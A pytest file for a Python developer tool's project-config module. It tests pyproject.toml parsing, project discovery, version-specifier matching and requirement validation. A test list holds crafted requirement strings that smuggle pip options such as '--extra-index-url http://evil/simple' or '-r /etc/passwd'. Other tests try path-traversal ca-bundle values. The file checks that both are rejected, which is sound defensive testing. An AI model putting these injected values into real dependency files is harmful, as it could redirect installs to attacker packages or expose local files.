"""Tests for devbox.project: reading pyproject.toml, finding and inspecting projects."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from devbox.config.project import (
    PYPROJECT,
    detect_import_root,
    find_project_dir,
    inspect_project,
    normalize_name,
    python_allowed,
    read_pyproject,
)
from devbox.errors import ConfigError
from helpers import devbox_pyproject, load_config, make_project

# --- read_pyproject ------------------------------------------------------------------------------


def test_read_pyproject_parses(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).write_text(
        '[project]\nname = "demo"\n\n[tool.devbox]\nlint = ["ruff", "mypy"]\n', encoding="utf-8"
    )
    data = read_pyproject(tmp_path)
    assert data == {"project": {"name": "demo"}, "tool": {"devbox": {"lint": ["ruff", "mypy"]}}}


def test_read_pyproject_utf8(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).write_text('[project]\ndescription = "café ☕"\n', encoding="utf-8")
    assert read_pyproject(tmp_path)["project"]["description"] == "café ☕"


def test_read_pyproject_missing(tmp_path: Path) -> None:
    with pytest.raises(ConfigError) as info:
        read_pyproject(tmp_path)
    assert info.value.exit_code == 2
    assert str(tmp_path / PYPROJECT) in info.value.message
    assert "no pyproject.toml (nor setup.py or setup.cfg) here" in info.value.message
    assert "--project" in info.value.message


@pytest.mark.parametrize("manifest", ["setup.py", "setup.cfg"])
def test_a_project_without_pyproject_is_read_as_an_empty_one(tmp_path: Path, manifest: str) -> None:
    (tmp_path / manifest).write_text("")
    (tmp_path / "pkg").mkdir()
    assert read_pyproject(tmp_path) == {}
    assert find_project_dir(tmp_path / "pkg") == tmp_path


@pytest.mark.parametrize(
    ("text", "line"),
    [
        ("[tool.devbox\n", 1),
        ('[project]\nname = "demo"\nversion = \n', 3),
        ('[project]\nname = "demo"\nname = "again"\n', 3),
        ('[tool.devbox]\nlint = "ruff" "mypy"\n', 2),
    ],
)
def test_read_pyproject_invalid_toml(tmp_path: Path, text: str, line: int) -> None:
    (tmp_path / PYPROJECT).write_text(text, encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        read_pyproject(tmp_path)
    message = info.value.message
    assert info.value.exit_code == 2
    assert str(tmp_path / PYPROJECT) in message
    assert "invalid TOML" in message
    assert f"line {line}" in message
    assert "column" in message


def test_read_pyproject_invalid_toml_at_end_of_file(tmp_path: Path) -> None:
    # tomllib reports errors at the very end without a line and column
    (tmp_path / PYPROJECT).write_text('[tool.devbox]\nlint = ["ruff"\n', encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        read_pyproject(tmp_path)
    assert str(tmp_path / PYPROJECT) in info.value.message
    assert "invalid TOML" in info.value.message
    assert "end of document" in info.value.message


def test_read_pyproject_undecodable(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).write_bytes(b'[project]\nname = "\xff\xfe"\n')
    with pytest.raises(ConfigError) as info:
        read_pyproject(tmp_path)
    assert info.value.exit_code == 2
    assert str(tmp_path / PYPROJECT) in info.value.message
    assert "cannot read the file" in info.value.message
    assert "encoding" in info.value.message


def test_read_pyproject_unreadable_directory(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).mkdir()
    with pytest.raises(ConfigError) as info:
        read_pyproject(tmp_path)
    assert info.value.exit_code == 2
    assert str(tmp_path / PYPROJECT) in info.value.message
    assert "cannot read the file" in info.value.message


def test_read_pyproject_errors_do_not_chain(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).write_text("= 1\n", encoding="utf-8")
    with pytest.raises(ConfigError) as info:
        read_pyproject(tmp_path)
    assert info.value.__cause__ is None
    assert info.value.__suppress_context__


# --- find_project_dir ----------------------------------------------------------------------------


def test_find_project_dir_at_start(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).write_text("", encoding="utf-8")
    assert find_project_dir(tmp_path) == tmp_path.resolve()


def test_find_project_dir_walks_up(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).write_text("", encoding="utf-8")
    deep = tmp_path / "src" / "pkg" / "sub"
    deep.mkdir(parents=True)
    assert find_project_dir(deep) == tmp_path.resolve()


def test_find_project_dir_nearest_wins(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).write_text("", encoding="utf-8")
    inner = tmp_path / "packages" / "inner"
    (inner / "tests").mkdir(parents=True)
    (inner / PYPROJECT).write_text("", encoding="utf-8")
    assert find_project_dir(inner / "tests") == inner.resolve()
    assert find_project_dir(tmp_path / "packages") == tmp_path.resolve()


def test_find_project_dir_ignores_directory_named_pyproject(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).write_text("", encoding="utf-8")
    sub = tmp_path / "sub"
    (sub / PYPROJECT).mkdir(parents=True)
    assert find_project_dir(sub) == tmp_path.resolve()


def test_find_project_dir_relative_start(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / PYPROJECT).write_text("", encoding="utf-8")
    (tmp_path / "a" / "b").mkdir(parents=True)
    monkeypatch.chdir(tmp_path / "a" / "b")
    result = find_project_dir(Path("."))
    assert result == tmp_path.resolve()
    assert result.is_absolute()


def test_find_project_dir_none_found_returns_start(tmp_path: Path) -> None:
    start = tmp_path / "x" / "y"
    start.mkdir(parents=True)
    if any((d / PYPROJECT).is_file() for d in start.resolve().parents):
        pytest.skip("a pyproject.toml exists above the temporary directory")
    assert find_project_dir(start) == start.resolve()


# --- detect_import_root ---------------------------------------------------------------------------


def test_import_root_src_layout_package(tmp_path: Path) -> None:
    (tmp_path / "src" / "pkg").mkdir(parents=True)
    (tmp_path / "src" / "pkg" / "__init__.py").write_text("", encoding="utf-8")
    assert detect_import_root(tmp_path) == "src"


def test_import_root_src_layout_module(tmp_path: Path) -> None:
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "mod.py").write_text("", encoding="utf-8")
    assert detect_import_root(tmp_path) == "src"


def test_import_root_flat_layout(tmp_path: Path) -> None:
    (tmp_path / "pkg").mkdir()
    (tmp_path / "pkg" / "__init__.py").write_text("", encoding="utf-8")
    assert detect_import_root(tmp_path) == "."


def test_import_root_no_src(tmp_path: Path) -> None:
    assert detect_import_root(tmp_path) == "."


def test_import_root_src_without_python(tmp_path: Path) -> None:
    (tmp_path / "src" / "assets").mkdir(parents=True)
    (tmp_path / "src" / "README.md").write_text("", encoding="utf-8")
    (tmp_path / "src" / "assets" / "logo.svg").write_text("", encoding="utf-8")
    assert detect_import_root(tmp_path) == "."


def test_import_root_src_is_a_file(tmp_path: Path) -> None:
    (tmp_path / "src").write_text("", encoding="utf-8")
    assert detect_import_root(tmp_path) == "."


# --- python_allowed ------------------------------------------------------------------------------

ALL = ("3.9", "3.10", "3.11", "3.12", "3.13", "3.14")


@pytest.mark.parametrize(
    ("spec", "allowed"),
    [
        (">=3.10", {"3.10", "3.11", "3.12", "3.13", "3.14"}),
        (">3.10", {"3.10", "3.11", "3.12", "3.13", "3.14"}),  # 3.10.1 > 3.10
        (">=3.10.2", {"3.10", "3.11", "3.12", "3.13", "3.14"}),
        ("<3.11", {"3.9", "3.10"}),
        ("<=3.11", {"3.9", "3.10", "3.11"}),  # 3.11.0 itself
        ("<3.11.3", {"3.9", "3.10", "3.11"}),
        (">=3.10,<3.12", {"3.10", "3.11"}),
        (" >= 3.10 , < 3.12 ", {"3.10", "3.11"}),
        (">=3.10,<3.12,", {"3.10", "3.11"}),
        ("==3.12.*", {"3.12"}),
        ("==3.12", {"3.12"}),
        ("==3.12.4", {"3.12"}),
        ("===3.12", {"3.12"}),
        ("!=3.11.*", {"3.9", "3.10", "3.12", "3.13", "3.14"}),
        ("!=3.11", set(ALL)),  # 3.11.1 is still allowed
        (">=3.10,!=3.11.*,!=3.12.*", {"3.10", "3.13", "3.14"}),
        ("~=3.10", {"3.10", "3.11", "3.12", "3.13", "3.14"}),
        ("~=3.10.2", {"3.10"}),
        ("~=3.11.0", {"3.11"}),
        ("==3.*", set(ALL)),
        (">=4", set()),
        (">=3.12,<3.11", set()),
        ("", set(ALL)),
    ],
)
def test_python_allowed(spec: str, allowed: set[str]) -> None:
    result = {v for v in ALL if python_allowed(spec, v)}
    assert result == allowed


@pytest.mark.parametrize(
    "spec",
    [
        "python3.10",
        ">=3.10rc1",
        ">=3.10,banana",
        "3.10",
        ">= three",
        "=>3.10",
        ">=3.10.*",  # wildcards are only valid with == and != (PEP 440)
    ],
)
def test_python_allowed_unparsable_allows_all(spec: str) -> None:
    assert all(python_allowed(spec, v) for v in ALL)


# --- inspect_project -----------------------------------------------------------------------------


FULL: dict[str, Any] = {
    "project": {
        "name": "Demo_Pkg",
        "version": "1.2.3",
        "requires-python": ">=3.10",
        "dependencies": ["attrs>=22", 5, "click"],
        "optional-dependencies": {"test": ["pytest", None], "docs": []},
        "scripts": {"demo": "demo.cli:main", "bad": 1},
        "dynamic": ["readme"],
    },
    "dependency-groups": {"lint": ["ruff"], "all": [{"include-group": "lint"}]},
}


def test_inspect_project_fields(tmp_path: Path) -> None:
    (tmp_path / "src" / "demo_pkg").mkdir(parents=True)
    (tmp_path / "src" / "demo_pkg" / "__init__.py").write_text("", encoding="utf-8")
    facts = inspect_project(tmp_path, FULL)
    assert facts.root == tmp_path
    assert facts.pyproject == FULL
    assert facts.name == "Demo_Pkg"
    assert facts.version == "1.2.3"
    assert facts.requires_python == ">=3.10"
    assert facts.dynamic == ("readme",)
    assert facts.dependencies == ("attrs>=22", "click")
    assert facts.optional_dependencies == {"test": ("pytest",), "docs": ()}
    assert facts.dependency_groups == {"lint": ["ruff"], "all": [{"include-group": "lint"}]}
    assert facts.scripts == {"demo": "demo.cli:main"}
    assert facts.import_root == "src"
    assert facts.has_static_metadata


def test_inspect_project_flat_layout(tmp_path: Path) -> None:
    (tmp_path / "demo").mkdir()
    (tmp_path / "demo" / "__init__.py").write_text("", encoding="utf-8")
    assert inspect_project(tmp_path, FULL).import_root == "."


@pytest.mark.parametrize(
    "pyproject",
    [
        pytest.param({}, id="empty"),
        pytest.param({"project": "demo"}, id="project-not-a-table"),
        pytest.param(
            {
                "project": {
                    "name": 1,
                    "version": 1.0,
                    "requires-python": 3.10,
                    "dependencies": "attrs",
                    "optional-dependencies": ["test"],
                    "scripts": ["demo"],
                    "dynamic": "version",
                },
                "dependency-groups": ["lint"],
            },
            id="wrong-types",
        ),
    ],
)
def test_inspect_project_tolerates_missing_or_odd_tables(
    tmp_path: Path, pyproject: dict[str, Any]
) -> None:
    facts = inspect_project(tmp_path, pyproject)
    assert facts.name is None
    assert facts.version is None
    assert facts.requires_python is None
    assert facts.dynamic == ()
    assert facts.dependencies == ()
    assert facts.optional_dependencies == {}
    assert facts.dependency_groups == {}
    assert facts.scripts == {}
    assert facts.import_root == "."
    assert not facts.has_static_metadata


def test_inspect_project_reads_real_file(tmp_path: Path) -> None:
    (tmp_path / PYPROJECT).write_text(
        """
[project]
name = "demo"
dynamic = ["version"]
requires-python = ">=3.11"
dependencies = ["attrs"]

[project.optional-dependencies]
test = ["pytest>=8"]

[dependency-groups]
dev = ["ruff"]
""",
        encoding="utf-8",
    )
    facts = inspect_project(tmp_path, read_pyproject(tmp_path))
    assert facts.name == "demo"
    assert facts.version is None
    assert facts.dynamic == ("version",)
    assert facts.requires_python == ">=3.11"
    assert facts.optional_dependencies == {"test": ("pytest>=8",)}
    assert set(facts.dependency_groups) == {"dev"}
    assert not facts.has_static_metadata


# --- has_static_metadata -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("project", "expected"),
    [
        pytest.param({"name": "a", "version": "1"}, True, id="static"),
        pytest.param({"name": "a", "version": "1", "dynamic": ["readme"]}, True, id="dyn-readme"),
        pytest.param(
            {"name": "a", "version": "1", "dynamic": ["scripts", "classifiers"]},
            True,
            id="dyn-other",
        ),
        pytest.param({"name": "a", "dynamic": ["version"]}, False, id="dyn-version"),
        pytest.param(
            {"name": "a", "version": "1", "dynamic": ["version"]}, False, id="version-and-dyn"
        ),
        pytest.param(
            {"name": "a", "version": "1", "dynamic": ["dependencies"]}, False, id="dyn-deps"
        ),
        pytest.param(
            {"name": "a", "version": "1", "dynamic": ["optional-dependencies"]},
            False,
            id="dyn-optional",
        ),
        pytest.param({"version": "1"}, False, id="no-name"),
        pytest.param({"name": "a"}, False, id="no-version"),
    ],
)
def test_has_static_metadata(tmp_path: Path, project: dict[str, Any], expected: bool) -> None:
    facts = inspect_project(tmp_path, {"project": project})
    assert facts.has_static_metadata is expected


# --- normalize_name ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("demo", "demo"),
        ("Demo_Pkg", "demo-pkg"),
        ("a.b-c_d", "a-b-c-d"),
        ("A__B..C--D", "a-b-c-d"),
    ],
)
def test_normalize_name(name: str, expected: str) -> None:
    assert normalize_name(name) == expected


# --- requirements of the project's metadata: PEP 508, one line each -----------------------------

#: not PEP 508 (or not as one requirements.txt line): each was written raw into requirements.txt
HOSTILE_REQUIREMENTS = [
    "--index-url=http://127.0.0.1:9/simple",
    "--extra-index-url http://evil/simple",
    "--trusted-host evil",
    "-r /etc/passwd",
    "-c constraints.txt",
    "-e .",
    "-e git+https://evil/x.git#egg=x",
    "attrs\n--index-url=http://evil",
    "attrs\r\n-r x.txt",
    "x @ --index-url=http://evil",  # packaging takes any word after '@' as the URL
    "x @ -r",
    "x @ ./local/dir",
    "x @ https://host/x.whl\x00",
    "x @ https://host/x.whl\\",  # pip joins the next line onto this one
    "x; os_name == ' --index-url=http://evil'",  # pip splits options off at ' -'
    "x; os_name == 'a\u2028b'",
    "attrs # a comment",
    "",
    " ",
    "https://evil/x.whl",
]
VALID_REQUIREMENTS = [
    "attrs",
    "requests[socks]>=2,<3",
    "tomli>=2; python_version < '3.11'",
    "x @ https://host/x-1.0-py3-none-any.whl#sha256=abc",
    "x @ file:///srv/wheels/x-1.0.tar.gz",
    "x; os_name=='#a'",
    "Django >= 4.2",
]

#: where a requirement sits → the key the error names
PLACES = {
    "dependencies": "[project] dependencies",
    "extra": "[project.optional-dependencies] test",
    "group": "[dependency-groups] dev",
}


def pyproject_with(place: str, req: str) -> dict[str, Any]:
    project: dict[str, Any] = {"name": "p", "version": "1"}
    data: dict[str, Any] = {"project": project}
    if place == "dependencies":
        project["dependencies"] = ["attrs", req]
    elif place == "extra":
        project["optional-dependencies"] = {"test": [req]}
    else:
        data["dependency-groups"] = {"base": ["six"], "dev": [{"include-group": "base"}, req]}
    return data


@pytest.mark.parametrize("place", list(PLACES))
@pytest.mark.parametrize("req", HOSTILE_REQUIREMENTS)
def test_requirements_that_are_not_pep_508_are_config_errors(
    tmp_path: Path, place: str, req: str
) -> None:
    with pytest.raises(ConfigError) as info:
        inspect_project(tmp_path, pyproject_with(place, req))
    message = info.value.message
    assert info.value.exit_code == 2
    assert message.startswith(f"{tmp_path / PYPROJECT}: {PLACES[place]}: {req!r} ")
    assert "is not a PEP 508 requirement" in message
    assert "[tool.devbox] index-url" in message  # where options belong
    assert "\n" not in message.replace(repr(req), "")  # one paragraph


@pytest.mark.parametrize("place", list(PLACES))
@pytest.mark.parametrize("req", VALID_REQUIREMENTS)
def test_pep_508_requirements_are_kept_as_written(tmp_path: Path, place: str, req: str) -> None:
    facts = inspect_project(tmp_path, pyproject_with(place, req))
    if place == "dependencies":
        assert facts.dependencies == ("attrs", req)
    elif place == "extra":
        assert facts.extra("test") == (req,)
    else:  # include-group tables stay valid
        assert facts.dependency_groups["dev"] == [{"include-group": "base"}, req]


# --- ca-bundle: a path in pyproject.toml stays inside the project --------------------------------


def ca_project(tmp_path: Path) -> tuple[Path, Path]:
    """A project under tmp_path/proj, and a PEM file beside it (outside it)."""
    root = tmp_path / "proj"
    (root / "certs").mkdir(parents=True)
    (root / "certs" / "real.pem").write_text("-----BEGIN CERTIFICATE-----\n")
    outside = tmp_path / "x.pem"
    outside.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
    (root / "certs" / "link.pem").symlink_to(outside)
    (root / "certs" / "inner.pem").symlink_to(root / "certs" / "real.pem")
    return root, outside


def ca_config(root: Path, value: str | None, env: dict[str, str] | None = None) -> Any:
    table = {} if value is None else {"ca-bundle": value}
    return load_config(root, devbox_pyproject(table, project=None), env=env, facts=False)


@pytest.mark.parametrize(
    "value",
    ["../x.pem", "certs/../../x.pem", "certs/link.pem", "{outside}", "~/x.pem", "../missing.pem"],
)
def test_a_ca_bundle_in_pyproject_leading_out_of_the_project_is_a_config_error(
    tmp_path: Path, value: str
) -> None:
    # Its content was passed to every step as the devbox-ca secret, readable by the tests.
    root, outside = ca_project(tmp_path)
    with pytest.raises(ConfigError) as info:
        ca_config(root, value.format(outside=outside), env={"HOME": str(tmp_path)})
    message = info.value.message
    assert info.value.exit_code == 2
    assert message.startswith(f"{root / PYPROJECT}: [tool.devbox] key 'ca-bundle': ")
    assert "outside the project" in message and "does not exist" not in message
    assert "DEVBOX_CA_BUNDLE" in message and "\n" not in message


def test_a_ca_bundle_inside_the_project_or_from_the_environment_may_be_anywhere(
    tmp_path: Path,
) -> None:
    root, outside = ca_project(tmp_path)
    real = str((root / "certs" / "real.pem").resolve())
    assert ca_config(root, "certs/real.pem").ca_bundle == real
    assert ca_config(root, "certs/inner.pem").ca_bundle == real  # a symlink within
    assert ca_config(root, str(root / "certs" / "real.pem")).ca_bundle == real
    # the user's own settings may point outside
    for env in ({"DEVBOX_CA_BUNDLE": str(outside)}, {"SSL_CERT_FILE": str(outside)}):
        assert ca_config(root, None, env).ca_bundle == str(outside.resolve())
    assert ca_config(root, "../x.pem", {"DEVBOX_CA_BUNDLE": str(outside)}).ca_bundle == str(
        outside.resolve()
    )


def test_requires_python_is_read_from_setup_cfg_when_pyproject_has_none(tmp_path: Path) -> None:
    # issue 14: a setup.cfg-only project's python_requires chooses the versions too
    make_project(
        tmp_path,
        files={"setup.cfg": "[metadata]\nname = legacy\n\n[options]\npython_requires = >=3.12\n"},
    )
    assert inspect_project(tmp_path, read_pyproject(tmp_path)).requires_python == ">=3.12"
    make_project(tmp_path, '[project]\nname = "x"\nversion = "1"\nrequires-python = ">=3.11"\n')
    assert inspect_project(tmp_path, read_pyproject(tmp_path)).requires_python == ">=3.11"


def test_an_unreadable_setup_cfg_gives_no_requires_python(tmp_path: Path) -> None:
    make_project(tmp_path, files={"setup.cfg": "[options\npython_requires = >=3.12\n"})
    assert inspect_project(tmp_path, read_pyproject(tmp_path)).requires_python is None
